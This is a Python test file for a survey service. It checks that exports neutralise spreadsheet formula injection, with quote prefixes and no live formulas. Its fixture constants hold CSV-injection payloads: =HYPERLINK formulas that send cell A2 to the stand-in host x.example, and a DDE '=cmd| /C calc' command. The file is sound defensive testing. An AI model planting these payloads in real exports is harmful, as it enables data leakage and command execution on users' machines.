"""Formula injection through names (issue 17, point 7): an organisation, evaluation, unit
or wave named like a spreadsheet formula, and answers like one, exported through every
CSV and XLSX door. No workbook cell is a formula, and every CSV text cell that begins
with =, +, -, @, a tab or a carriage return has a ' in front (OWASP "CSV Injection");
numbers stay numbers. Before the fix `tabeller.xlsx` held `=HYPERLINK(…)` as a live
formula and the CSV tables, tidy and data files held the names as written."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from litestar.testing import AsyncTestClient
from openpyxl import load_workbook

from service.admin import store as admin
from service.admin.model import EvaluationUnit, NewEvaluation, NewInvitations, NewOrganisation, NewUnit, NewWave
from service.app import create_app
from service.exports import tables, tidy
from tests.support import SECRET
from tests.support.cli import sammen
from tests.support.database import empty
from tests.support.respond import respond

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ORGANISATION = '=HYPERLINK("http://x.example/?"&A2,"se her")'
EVALUATION = "=cmd|' /C calc'!A0"
UNITS = ('=HYPERLINK("http://x.example/?"&A2,"enhed")', "+1+1", "-2+3", "@SUM(A1)")
WAVES = {"before": "\t=1", "after": "\r=1"}
ANSWER = '=HYPERLINK("http://x.example","svar")'
PER_GROUP = 5  # answers per unit and wave: at the threshold, so the units' figures are shown


@pytest.fixture(scope="module")
async def hostile(pool, settings) -> int:
    """An evaluation whose every name is a formula, with answers (free text a formula too)."""
    async with pool.acquire() as conn:
        await empty(conn)
        org = await admin.create_organisation(conn, NewOrganisation(name=ORGANISATION))
        units = [(await admin.create_unit(conn, org.id, NewUnit(name=name, sector="udfoerer"))).id for name in UNITS]
        today = dt.date.today()
        evaluation = await admin.create_evaluation(conn, org.id, NewEvaluation(
            name=EVALUATION, implementation_date=today,
            units=[EvaluationUnit(unit_id=u, arm="comparison" if i else "intervention") for i, u in enumerate(units)]))
        tokens = []
        for sequence, (phase, name) in enumerate(WAVES.items()):
            wave = await admin.create_wave(conn, evaluation.id, NewWave(
                name=name, phase=phase, opens_on=today - dt.timedelta(days=1), closes_on=today + dt.timedelta(days=9),
                questionnaire_id="borger", sequence=sequence))
            for unit in units:
                links = await admin.issue_invitations(conn, wave.id, NewInvitations(unit_id=unit, count=PER_GROUP),
                                                      "http://sammen.test", SECRET)
                tokens += [link.token for link in links]
    async with AsyncTestClient(create_app(settings)) as client:
        for token in tokens:
            await respond(client, token, text=ANSWER)
    return evaluation.id


def _would_run(text: str) -> bool:
    return text.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?([eE][+-]?[0-9]+)?", text)


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _assert_csv_safe(name: str, data: bytes) -> list[str]:
    cells = _csv_cells(data)
    running = [c for c in cells if _would_run(c)]
    assert running == [], f"{name}: cells a spreadsheet would run: {running[:5]}"
    return cells


def _assert_xlsx_safe(data: bytes) -> list[str]:
    """Every cell of every sheet: never a formula; text beginning like one is a text cell
    with the quote prefix. The texts, for the caller to look for the names."""
    book = load_workbook(io.BytesIO(data))
    texts, numbers = [], 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert numbers > 0, "figures stay numbers"
    return texts


async def test_no_workbook_cell_is_a_formula_and_the_csv_tables_quote_the_names(hostile, pool, settings, tmp_path):
    """`sammen export tables --xlsx` (and the evaluator's downloads of the same tables):
    the names are in the workbook as written, as text; in the CSV files with a ' in front."""
    out = tmp_path / "tabeller"
    ran = await sammen(settings, "export", "tables", "--evaluation", str(hostile), "--out", str(out), "--xlsx")
    assert ran.code == 0, ran.err
    texts = _assert_xlsx_safe((out / "tabeller.xlsx").read_bytes())
    for name in (*UNITS, *WAVES.values()):
        assert name.replace("\r", "\n") in texts, name  # XML reads a carriage return as a line feed
    seen: set[str] = set()
    for path in sorted(out.glob("*.csv")):
        seen |= set(_assert_csv_safe(path.name, path.read_bytes()))
    for name in (*UNITS, *WAVES.values()):
        assert "'" + name in seen, name
    async with pool.acquire() as conn:
        made = await tables.collect_tables(conn, hostile, min_group_size=settings.min_group_size)
    _assert_xlsx_safe(tables.xlsx_bytes(made))
    with zipfile.ZipFile(io.BytesIO(tables.csv_zip_bytes(made))) as archive:
        for member in archive.namelist():
            if member.endswith(".csv"):
                _assert_csv_safe(member, archive.read(member))


@pytest.mark.parametrize("command", [
    ("tidy", "--free-text"),
    ("data", "--free-text"),
    ("data", "--free-text", "--wide"),
])
async def test_csv_data_files_and_their_codebooks_quote_every_text_that_would_run(hostile, settings, tmp_path,
                                                                                  command):
    """The names in every row (unit, wave) and the free text: a ' in front, in the data
    file and in its codebook (whose value labels begin with -1=Ved ikke, and whose wave
    names are the hostile ones); numbers, -1 included, as they are."""
    out = tmp_path / "svar.csv"
    ran = await sammen(settings, "export", *command, "--evaluation", str(hostile), "--out", str(out))
    assert ran.code == 0, ran.err
    cells = _assert_csv_safe(out.name, out.read_bytes())
    for name in (*UNITS, *WAVES.values(), ANSWER):
        assert "'" + name in cells, name
    book = _assert_csv_safe("codebook", (tmp_path / "svar_codebook.csv").read_bytes())
    assert any(c.startswith("'" + WAVES["before"]) for c in book) or "--wide" in command


async def test_the_evaluators_codebook_download_quotes_text_that_would_run(hostile, pool, settings):
    async with pool.acquire() as conn:
        body, rows = await tidy.codebook_csv(conn, hostile, settings.min_group_size)
    cells = _assert_csv_safe("kodebog.csv", body)
    assert rows > 0 and any(c.startswith("'" + WAVES["before"]) for c in cells)


async def test_the_invitations_csv_quotes_a_key_a_spreadsheet_would_run(hostile, pool, settings, tmp_path):
    """A respondent key may begin with - (letters, digits and _ . : -): in the mail-merge
    CSV it has a ' in front; a key that is a plain number stays that number."""
    async with pool.acquire() as conn:
        wave, unit = await conn.fetchrow("select w.id, eu.unit_id from wave w join evaluation_unit eu "
                                         "on eu.evaluation_id = w.evaluation_id where w.evaluation_id = $1 "
                                         "order by w.id, eu.unit_id limit 1", hostile)
    keys = tmp_path / "noegler.txt"
    keys.write_text("-A1:A9\n-17\nborger-3\n", encoding="utf-8")
    links = tmp_path / "links.csv"
    ran = await sammen(settings, "invite", "--wave", str(wave), "--unit", str(unit), "--keys", str(keys),
                       "--csv", str(links))
    assert ran.code == 0, ran.err
    cells = _assert_csv_safe(links.name, links.read_bytes())
    assert "'-A1:A9" in cells and "-17" in cells and "borger-3" in cells


def test_the_rule_leaves_numbers_and_plain_text_alone():
    from service.exports.cells import csv_text

    assert [csv_text(v) for v in (-2.5, -3, "-17", "+3,5", "Bostøtte", None)] == [-2.5, -3, "-17", "+3,5",
                                                                                   "Bostøtte", None]
    assert [csv_text(v) for v in ("-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1")] == [
        "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "'=1"]
